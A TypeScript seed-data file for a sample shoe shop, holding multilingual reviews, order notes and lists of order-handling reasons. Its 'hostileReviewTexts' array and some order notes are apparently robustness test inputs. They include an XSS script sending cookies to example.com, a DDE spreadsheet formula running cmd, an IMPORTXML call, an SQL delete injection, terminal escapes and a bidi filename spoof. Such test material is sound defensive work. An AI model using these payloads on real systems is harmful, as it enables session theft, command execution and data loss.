/** What customers and staff wrote in the sample shop. */

export interface ReviewText {
  readonly rating: number;
  readonly title: string | null;
  readonly comment: string | null;
}

const review = (rating: number, title: string | null, comment: string | null): ReviewText => ({
  rating,
  title,
  comment,
});

export const reviewTexts: readonly ReviewText[] = [
  review(5, 'Best shoes I ever had', 'Walked eleven kilometres on the first day, not one blister.'),
  review(5, 'Perfect', 'Fits as expected, looks even better than in the pictures.'),
  review(5, null, 'Second pair. The first lasted four winters.'),
  review(
    5,
    'Endlich!',
    'Endlich ein Schuh für breite Füße. Größe fällt normal aus, Versand nach München in zwei Tagen.',
  ),
  review(5, 'Parfaites', "Très confortables dès le premier jour, même sous l'orage."),
  review(5, '最高です', '軽くて歩きやすい。サイズもぴったりでした。'),
  review(5, 'ممتاز', 'جودة رائعة وتوصيل سريع. شكراً جزيلاً!'),
  review(5, '🔥🔥🔥', 'Love them 😍👟💯'),
  review(5, 'Fantastische schoenen', 'Zitten als gegoten, ook na een lange werkdag.'),
  review(4, 'Good, runs a little small', 'Take half a size more than usual. Otherwise lovely.'),
  review(4, null, 'Nice leather. The laces are too short for my taste.'),
  review(4, 'Velmi pohodlné', 'Pohodlné boty, jen barva je tmavší než na fotce.'),
  review(4, '만족합니다', '발볼이 넓은 편인데 편해요. 색상도 예뻐요.'),
  review(4, 'Solide', 'Gute Verarbeitung, die Sohle ist auf nassem Laub etwas rutschig.'),
  review(4, 'Καλά παπούτσια', 'Άνετα και ελαφριά, αξίζουν τα χρήματά τους.'),
  review(3, 'Okay', 'Neither bad nor great. Colour is darker than shown.'),
  review(3, 'Mittel', 'Nach drei Monaten löst sich die Naht an der Ferse.'),
  review(3, null, 'Comfortable, but they squeak. On every single step.'),
  review(3, '一般', '质量还可以，就是物流有点慢。'),
  review(2, 'Too narrow', 'Beautiful shoe for somebody with beautiful feet.'),
  review(2, 'Déçu', "La semelle s'use très vite, dommage pour le prix."),
  review(2, null, 'Box was open when it came.'),
  review(1, 'Wrong size twice', 'Ordered 42, got 40. Ordered again, got 40 again.'),
  review(1, 'Fell apart', 'The sole came off after two weeks. Want my money back.'),
  review(1, 'Katastrophe', 'Zwei linke Schuhe im Karton. Zwei. Linke.'),
];

/** Text that attacks what shows it: terminals, spreadsheets, web pages, columns. */
export const hostileReviewTexts: readonly ReviewText[] = [
  review(
    1,
    '\u001b[31;5mSALE\u001b[0m',
    'Clear your screen: \u001b[2J\u001b[1;1H and \u001b]8;;https://example.com\u0007click\u001b]8;;\u0007',
  ),
  review(5, '<img src=x onerror=alert(1)>', '<script>fetch("https://example.com/?c="+document.cookie)</script>'),
  review(5, "=cmd|' /C calc'!A0", '+1+1\n-1\n@SUM(1,2)'),
  review(3, 'gnirts esreveR \u202etxt.exe', 'Ends in bidi \u2067\u202e and never closes'),
  review(4, 'Line\nbreaks\r\nand\ttabs', 'one\n\n\n\n\n\n\n\ntwo\n\tthree'),
  review(2, 'Z̴̢̛a̶l̵g̸o̷', 'H̸̡̪̯ͨ͊̽̅̾̎Ȩ̬̩̾͛ͪ̈́̀́͘ ̶̧̨̱̹̭̯ͧ̾ͬC̷̙̲̝͖ͭ̏ͥͮ͟Oͮ͏̮̪̝͍M̲̖͊̒ͪͩͬ̚̚͜Ȇ̴̟̟͙̞ͩ͌͝S̨̥̫͎̭ͯ̿̔̀ͅ'),
  review(1, 'Cheap watches', 'Visit https://spam.example.com now!!! '.repeat(60)),
  review(5, 'ok', "'; delete from reviews; --"),
  review(4, '👩‍👩‍👧‍👦🏳️‍🌈🇩🇪', '各位好 👋🏿 مرحبا 🤷🏻‍♀️ — ½ × ∞ ≠ ﷽'),
];

export const rejectionReasons = [
  'Advertising',
  'Insulting language',
  'Not about the product',
  'Same text as another review',
];

export const orderNotes = [
  'Please ring twice, the bell is broken.',
  'Gift: no invoice in the box, please.',
  'Leave it with the neighbour (2nd floor, Müller).',
  'お届けは午後にお願いします。',
  'Call before delivery \u001b[7m+1 555 0134\u001b[0m',
  '=IMPORTXML("https://example.com","//a")',
  'Need them before Saturday, wedding!!! 👰',
];

export const cancelReasons = [
  'Customer changed their mind',
  'Ordered twice',
  'Address cannot be reached',
  'Payment never arrived',
];
export const returnReasons = ['Too small', 'Too large', 'Not as pictured', 'Damaged on arrival', 'Changed their mind'];
export const refundReasons = ['Returned goods', 'Order cancelled', 'Goodwill after a complaint', 'Lost by the carrier'];
export const declineReasons = [
  'Card declined: insufficient funds',
  'Card expired',
  '3-D Secure was not completed',
  'Bank did not answer',
];
export const carriers = ['DHL', 'UPS', 'DPD', 'GLS'];
export const suppliers = ['Halden Footwear', 'Northgate Imports', 'Kestrow BV', 'Calçado Minho', 'Zlín Shoe Works'];
export const adjustmentNotes = [
  'Cycle count: shelf differs from system',
  'Damaged by water',
  'Display pair, worn',
  'Found behind the rack',
  'Taken for photo shoot',
];
